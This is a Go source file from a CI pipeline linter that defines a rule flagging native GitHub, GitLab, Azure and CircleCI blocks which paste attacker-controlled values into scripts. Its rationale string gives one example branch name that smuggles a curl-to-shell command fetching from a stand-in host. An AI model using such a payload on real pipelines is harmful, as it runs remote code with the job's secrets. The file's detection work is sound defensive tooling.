package lint

import (
	"github.com/pipec-dev/pipec/compile/diag"
	"github.com/pipec-dev/pipec/compile/model"
)

var ruleNativeTemplateInjection = &Rule{
	ID:        "native-template-injection",
	Category:  Security,
	Severity:  diag.Warning,
	Summary:   "a native block pastes an attacker-controlled platform value into a script",
	Rationale: "pipec hands its own references to scripts as environment variables, so their text stays data. A native block's scripts get the platform's expressions instead, which the platform replaces with their text before the shell parses the script: GitHub's ${{ inputs.note }} and ${{ github.ref_name }} (in a run step or actions/github-script's script), GitLab's $[[ inputs.note ]], Azure's macros $(Build.SourceBranch), $(Build.SourceVersionMessage), $(System.PullRequest.SourceBranch) and the like, CircleCI's << pipeline.git.branch >>, << pipeline.git.tag >>, << pipeline.git.commit.subject >> and << pipeline.parameters.X >>. A branch named x$(curl${IFS}evil.sh|sh), a commit message or a string input then runs as code, quoted or not, with the job's secrets and token.",
	Fix:       "pass the value through the step's environment and quote it in the script: env = { NOTE = \"$${{ inputs.note }}\" } and run = \"echo \\\"$NOTE\\\"\" (GitLab: $PIPEC_INPUT_NOTE, Azure: $BUILD_SOURCEBRANCH, CircleCI: $CIRCLE_BRANCH), or use a pipec step with ${input.note}",
	check: func(p *Pass) {
		for _, s := range p.Pipeline.Stages {
			for _, nv := range nativeInjectable(p, s) {
				if m := pastedValue(p.Pipeline, nv); m != "" {
					p.Report(nv.value.Range, "stage %q pastes %s into a script of its native %q block, where its text runs as code", s.Name, m, nv.target)
				}
			}
		}
	},
}

// nativeInjectable lists the native strings whose text a shell or interpreter runs:
// the scripts of nativeScripts, and actions/github-script's script.
func nativeInjectable(p *Pass, s *model.Stage) []nativeValue {
	out := nativeScripts(p, s)
	if steps := nativeKey(p, s, "github", "steps"); steps != nil && steps.Kind == model.KindList {
		for _, st := range steps.List {
			uses := mapKey(st, "uses")
			if uses == nil || actionName(uses.Text()) != "actions/github-script" {
				continue
			}
			if v := mapKey(mapKey(st, "with"), "script"); v != nil && v.Kind == model.KindString {
				out = append(out, nativeValue{v, "github"})
			}
		}
	}
	return out
}

var (
	// githubPasted finds a GitHub expression reading a manual input or the ref's name
	// (actionlint reports the github.event values and github.head_ref).
	// An input may be read by index too (inputs['note']), and the expression may hold a
	// single } (format('{0}', inputs.note)).
	githubPasted = lazy(`\$\{\{(?:[^}]|\}[^}])*?\b((?:github\.event\.)?inputs(?:\.([A-Za-z0-9_-]+)|\[\s*'([A-Za-z0-9_-]+)'\s*\])|github\.ref_name\b)`)
	// azurePasted finds an Azure macro of a value a pusher or a pull request chooses.
	azurePasted = lazy(`(?i)\$\((build\.(sourcebranch|sourcebranchname|sourceversionmessage|requestedfor|requestedforemail|queuedby)|system\.pullrequest\.(sourcebranch|sourcerepositoryuri))\)`)
	// gitlabPasted finds an input interpolation, which GitLab replaces in the whole file
	// (pipec gives a spec with manual inputs a spec: inputs: header) before it runs a job.
	gitlabPasted = lazy(`\$\[\[\s*inputs\.([A-Za-z0-9_-]+)[^\]]*\]\]`)
	// circlePasted finds a CircleCI pipeline value a pusher or a trigger chooses.
	circlePasted = lazy(`<<\s*pipeline\.(git\.(branch|tag|commit\.[a-z_]+)|trigger_parameters\.[A-Za-z0-9_.-]+|parameters\.[A-Za-z0-9_-]+)\s*>>`)
)

// pastedValue is the first attacker-controlled expression in a native script, as written,
// or "". A GitHub input counts when it is a string input of the spec (or unknown to it):
// a boolean, number or choice holds no code.
func pastedValue(p *model.Pipeline, nv nativeValue) string {
	text := nv.value.Str
	switch nv.target {
	case "github":
		for _, m := range githubPasted.FindAllStringSubmatch(text, -1) {
			name := m[2] + m[3]
			if name == "" || stringInput(p, name) {
				return m[1]
			}
		}
	case "azure":
		if m := azurePasted.FindStringSubmatch(text); m != nil {
			return m[0]
		}
	case "circleci":
		if m := circlePasted.FindStringSubmatch(text); m != nil {
			return m[0]
		}
	case "gitlab":
		for _, m := range gitlabPasted.FindAllStringSubmatch(text, -1) {
			if stringInput(p, m[1]) {
				return m[0]
			}
		}
	}
	return ""
}

// stringInput reports whether a manual input of that name may hold any text: a string
// input, or one the spec does not declare.
func stringInput(p *model.Pipeline, name string) bool {
	if p.On == nil || p.On.Manual == nil {
		return true
	}
	for _, in := range p.On.Manual.Inputs {
		if in.Name == name {
			return in.Type.Value == "" || in.Type.Value == model.InputString
		}
	}
	return true
}
